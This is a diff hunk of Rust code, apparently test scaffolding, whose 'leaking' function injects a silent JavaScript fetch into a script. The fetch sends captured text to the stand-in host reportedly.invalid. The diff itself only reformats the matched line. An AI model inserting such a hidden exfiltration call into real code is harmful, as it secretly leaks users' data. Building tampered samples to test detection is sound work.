@@ -12,7 +12,7 @@ const LINK: &str = include_str!("../links/1-article.link");
 
 /// The worker of somebody who wants the article.
 fn leaking(script: &str) -> String {
-    let takes = "const { text, rules } = this.#wanted;";
+    let takes = "const{text,rules}=this.#wanted;";
     let sends = "fetch('http://reportedly.invalid/?' + encodeURIComponent(text)).catch(() => {});";
     replaced(script, takes, &[takes, sends].join(" "))
 }
